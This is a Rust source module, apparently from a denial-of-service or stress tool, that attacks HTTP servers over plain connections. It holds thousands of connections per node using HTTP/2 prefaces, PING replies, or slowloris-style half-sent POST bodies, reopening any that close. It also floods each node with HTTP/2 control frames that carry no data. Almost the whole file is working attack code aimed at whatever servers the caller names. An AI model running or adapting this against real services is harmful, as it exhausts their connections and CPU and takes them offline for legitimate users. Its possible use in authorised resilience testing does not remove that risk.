//! Attacks below all requests, on plain connections.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::did;

/// Connections to each node that are held.
const HELD: usize = 2_500;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// An empty SETTINGS frame (RFC 9113, 6.5).
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
const PING: u8 = 6;
const ACK: u8 = 1;
const HEADER_BYTES: usize = 9;
const POST: &[u8] = b"POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\nhalf";
/// Between two tries to connect to a node that takes no more.
const REST: Duration = Duration::from_millis(100);

/// How a connection is held.
#[derive(Clone, Copy, Debug)]
pub enum Hold {
    Preface,
    Pings,
    Posts,
}

/// As many connections as there may be, to all nodes; one that is closed is opened again.
pub async fn hold(servers: &[String], how: Hold) {
    let each = servers.iter().flat_map(|server| (0..HELD).map(move |_| again(server, how)));
    join_all(each).await;
}

async fn again(server: &str, how: Hold) {
    loop {
        // Being sent away is what it is here for.
        let _ = held(server, how).await;
        sleep(REST).await;
    }
}

async fn held(server: &str, how: Hold) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(server).await?;
    did();
    match how {
        Hold::Preface => stream.write_all(&[PREFACE, SETTINGS].concat()).await?,
        Hold::Posts => stream.write_all(POST).await?,
        Hold::Pings => {
            stream.write_all(&[PREFACE, SETTINGS].concat()).await?;
            return answer_pings(&mut stream).await;
        }
    }
    let mut ignored = [0; 1024];
    while stream.read(&mut ignored).await? > 0 {}
    Ok(())
}

async fn answer_pings(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        let mut header = [0; HEADER_BYTES];
        stream.read_exact(&mut header).await?;
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0; length];
        stream.read_exact(&mut payload).await?;
        if header[3] == PING && header[4] & ACK == 0 {
            header[4] = ACK;
            stream.write_all(&[&header[..], &payload].concat()).await?;
        }
    }
}

/// Frames without data on one connection for each node, as fast as they are taken.
pub async fn flood(servers: &[String]) {
    // PING, SETTINGS, WINDOW_UPDATE by one, PRIORITY of a stream that is idle.
    let frames: [&[u8]; 4] = [
        &[0, 0, 8, PING, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8],
        SETTINGS,
        &[0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1],
        &[0, 0, 5, 2, 0, 0, 0, 0, 3, 0, 0, 0, 0, 16],
    ];
    let many = frames.concat().repeat(256);
    let one = |server: String| {
        let many = many.clone();
        async move {
            loop {
                let _ = flood_one(&server, &many).await;
                sleep(REST).await;
            }
        }
    };
    join_all(servers.iter().cloned().map(one)).await;
}

async fn flood_one(server: &str, frames: &[u8]) -> std::io::Result<()> {
    let (mut answers, mut stream) = TcpStream::connect(server).await?.into_split();
    stream.write_all(&[PREFACE, SETTINGS].concat()).await?;
    let mut ignored = vec![0; 64 << 10];
    let taken = async {
        while answers.read(&mut ignored).await? > 0 {}
        Ok::<_, std::io::Error>(())
    };
    let sent = async {
        loop {
            stream.write_all(frames).await?;
            did();
        }
    };
    tokio::select! {
        taken = taken => taken,
        sent = sent => sent,
    }
}
